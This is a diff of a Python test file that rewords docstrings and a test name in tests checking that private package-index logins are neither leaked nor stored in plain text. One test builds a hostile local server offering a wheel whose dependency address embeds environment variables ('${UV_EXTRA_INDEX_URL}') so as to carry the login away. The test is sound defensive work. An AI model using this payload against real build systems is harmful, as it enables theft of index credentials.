@@ -1,4 +1,4 @@
-"""Private package indexes, and indexes and wheels that are not what they should be."""
+"""Private package indexes, and hostile indexes that try to learn a login."""
 
 from __future__ import annotations
 
@@ -29,7 +29,7 @@ def private_index() -> Iterator[str]:
 
 
 def files_with(secret: bytes, folder: Path) -> list[Path]:
-    """Search what is there: files of a running platform come and go."""
+    """Return the files that contain a secret. Files may vanish meanwhile, because the platform runs."""
     found = []
     for at, _, names in os.walk(folder):
         for name in names:
@@ -72,13 +72,13 @@ def test_a_private_index(platform: Running, private_index: str) -> None:
     ]
     everywhere.append((platform.data / "hearth.log").read_text())
     assert not [text for text in everywhere if "s3cret-word" in text]
-    assert not files_with(b"s3cret-word", platform.data), "not even in the database"
+    assert not files_with(b"s3cret-word", platform.data), "the password is stored in plain text"
     assert hearth(platform, "index", "logout", "127.0.0.1").returncode == 0
     assert platform.api("DELETE", "/v1/indexes/127.0.0.1").status_code == 404
 
 
 def built_by(operator: str, dependency: str, folder: Path) -> subprocess.CompletedProcess[str]:
-    """Build where the operator has set an index with a login, and nothing is known of it."""
+    """Build without a platform where the operator's index has a login in its address."""
     folder.mkdir()
     (folder / "pyproject.toml").write_text(project([dependency]))
     (folder / "main.py").write_text(worker(f"import {dependency.partition(' ')[0]}", "1"))
@@ -98,12 +98,12 @@ def built_by(operator: str, dependency: str, folder: Path) -> subprocess.Complet
 
 @pytest.mark.parametrize("login", ["operator:s3cret-word", "t0ken:"])
 @pytest.mark.platform
-def test_an_operators_login_is_for_the_index_alone(tmp_path: Path, login: str) -> None:
+def test_the_operators_login_is_sent_to_its_index_only(tmp_path: Path, login: str) -> None:
     asked: list[str] = []
 
     class Elsewhere(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
-            """Offer a wheel that asks for what would carry the login away."""
+            """Offer a wheel whose dependency's address has variables with the login."""
             asked.append(self.path + str(self.headers))
             variables = "v=${UV_EXTRA_INDEX_URL}&w=${no_proxy}"
             address = f"http://{self.headers['host']}/milk-1.0-py3-none-any.whl?{variables}"
@@ -117,7 +117,7 @@ def test_an_operators_login_is_for_the_index_alone(tmp_path: Path, login: str) -
         do_HEAD = do_GET  # noqa: N815 - the base class names it
 
         def log_message(self, *_: object) -> None:
-            """Say nothing."""
+            """Log nothing."""
 
     with serving({"secretlib-1.0-py3-none-any.whl": wheel("secretlib", "1.0", "")}, login) as index:
         operator = index.replace("//", f"//{login.removesuffix(':')}@")
